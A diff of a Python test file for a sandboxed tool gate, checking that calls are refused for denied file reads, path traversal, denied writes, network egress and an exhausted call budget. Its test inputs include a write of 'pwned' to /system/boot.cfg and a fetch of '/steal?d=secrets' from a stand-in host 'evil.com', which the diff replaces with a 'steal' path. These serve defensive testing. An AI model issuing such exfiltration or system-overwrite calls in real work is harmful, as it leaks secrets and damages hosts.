@@ -2,15 +2,14 @@
 """Directories of the host as tools (B12), and marks (B9): the command's
 options, what programs get, what is denied, and what is left on the host. The
 unit programs test_files and test_files_path have the small cases."""
-import http.server
 import json
 import os
 import resource
 import shutil
 import subprocess
-import threading
 
-from weir_test import (ECHO, HANG, IS_ROOT, PYTHON, TOOLS, WEIR, Case,
+from web import Server, answer, tools_file
+from weir_test import (ECHO, HANG, IS_ROOT, TOOLS, WEIR, Case,
                        command, main, rows, run, shell)
 
 # Calls in turn; of each what came, or its kind and message.
@@ -425,44 +424,16 @@ class Eight(Files):
     OUTCOMES = [None, "fs_read_denied", "path_traversal", None,
                 "fs_write_denied", None, "egress_denied", "budget_spent"]
 
-    def server(self):
-        """Answers on the loopback, and writes down who came."""
-        log = self.log = []
-
-        class Handler(http.server.BaseHTTPRequestHandler):
-            def do_GET(self):
-                log.append((self.headers["Host"], self.path))
-                body = b'{"status": "fine"}'
-                self.send_response(200)
-                self.send_header("Content-Length", str(len(body)))
-                self.end_headers()
-                self.wfile.write(body)
-
-            def log_message(self, *_):
-                pass
-
-        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        thread = threading.Thread(target=server.serve_forever)
-        thread.start()
-        self.addCleanup(thread.join)
-        self.addCleanup(server.server_close)
-        self.addCleanup(server.shutdown)
-        return server.server_address[1]
-
-    def fetcher(self, port):
-        """A command that fetches from one host. It stands for a tool that
-        knows where it may go: for `egress_denied` of the gate itself see the
-        tests of HTTP endpoints."""
-        return [PYTHON, "-ISc",
-                "import http.client, json, sys\n"
-                "asked = json.load(sys.stdin)\n"
-                "if asked['host'] != 'api.internal':\n"
-                "    sys.exit('egress_denied: ' + asked['host'])\n"
-                "link = http.client.HTTPConnection('127.0.0.1', %d)\n"
-                "link.request('GET', asked['path'],"
-                " headers={'Host': asked['host']})\n"
-                "sys.stdout.write(link.getresponse().read().decode())"
-                % port]
+    def fetcher(self):
+        """An endpoint whose list holds one path of one server."""
+        self.server = Server({"/status": answer('{"status": "fine"}')})
+        self.addCleanup(self.server.close)
+        os.mkdir(self.path("config"))
+        path = self.write("config/http.json", tools_file(
+            {"net.fetch": ("GET", self.server.url("/{path}?d={d}"))},
+            allow=[self.server.url("/status")]))
+        os.chmod(path, 0o644)
+        return ["--http-tools", path]
 
     def operations(self, root):
         return [
@@ -472,9 +443,8 @@ class Eight(Files):
             ("fs.write", {"path": root + "/out/report.txt",
                           "text": "done"}),
             ("fs.write", {"path": "/system/boot.cfg", "text": "pwned"}),
-            ("net.fetch", {"host": "api.internal", "path": "/status"}),
-            ("net.fetch", {"host": "evil.com",
-                           "path": "/steal?d=secrets"}),
+            ("net.fetch", {"path": "status"}),
+            ("net.fetch", {"path": "steal", "d": "secrets"}),
             ("fs.read", {"path": root + "/data.txt"}),
         ]
 
@@ -482,14 +452,11 @@ class Eight(Files):
         before = self.tree(top)
         result = self.succeeds(
             calls(*self.operations(root)), "--state", self.path("state"),
-            "--run", "eight", tools=tools, limits={"calls": 7})
+            "--run", "eight", *self.fetcher(), tools=tools,
+            limits={"calls": 7})
         value = result["value"]
         kinds = [one[0] if isinstance(one, list) else None for one in value]
-        # A command cannot say more than that it failed.
-        kinds = ["egress_denied" if kind == "failed" else kind
-                 for kind in kinds]
         self.assertEqual(kinds, outcomes)
-        self.assertIn("egress_denied: evil.com", value[6][2])
         self.assertEqual(value[0]["text"], "the data\n")
         self.assertEqual(value[5], {"status": "fine"})
         # Only the spent budget is hard, and it is that of calls.
@@ -503,7 +470,9 @@ class Eight(Files):
                              top)]))
         with open(os.path.join(self.root, "out/report.txt")) as file:
             self.assertEqual(file.read(), "done")
-        self.assertEqual(self.log, [("api.internal", "/status")])
+        self.assertEqual([(request.method, request.target)
+                          for request in self.server.requests],
+                         [("GET", "/status")])
         return result
 
     def ledger(self):
@@ -522,8 +491,7 @@ class Eight(Files):
         os.rename(self.root, os.path.join(top, "work"))
         self.root = os.path.join(top, "work")
         result = self.check({
-            "fs": "files:%s:read=/work:write=/work/out" % top,
-            "net.fetch": self.fetcher(self.server())},
+            "fs": "files:%s:read=/work:write=/work/out" % top},
             "/work", self.OUTCOMES, top)
         self.assertEqual(
             [(call["id"], call["state"], call["kind"])
@@ -531,7 +499,8 @@ class Eight(Files):
             [(0, "completed", None), (1, "refused", "fs_read_denied"),
              (2, "refused", "path_traversal"), (3, "completed", None),
              (4, "refused", "fs_write_denied"), (5, "completed", None),
-             (6, "failed", "failed"), (7, "refused", "budget_spent")])
+             (6, "refused", "egress_denied"),
+             (7, "refused", "budget_spent")])
         records = self.ledger()
         self.assertEqual(
             [(r["event"], r.get("call"), r.get("kind"))
@@ -543,7 +512,7 @@ class Eight(Files):
              ("started", 3, None), ("completed", 3, None),
              ("refused", 4, "fs_write_denied"),
              ("started", 5, None), ("completed", 5, None),
-             ("started", 6, None), ("failed", 6, "failed"),
+             ("refused", 6, "egress_denied"),
              ("refused", 7, "budget_spent"),
              ("closed", None, None)])
 
@@ -551,9 +520,7 @@ class Eight(Files):
         """Then there is nothing else, and what is not there is not found."""
         outcomes = list(self.OUTCOMES)
         outcomes[1] = "not_found"
-        self.check(dict(self.files(":read=/:write=/out"),
-                        **{"net.fetch": self.fetcher(self.server())}),
-                   "", outcomes, self.root)
+        self.check(self.files(":read=/:write=/out"), "", outcomes, self.root)
 
 
 class Marks(Case):
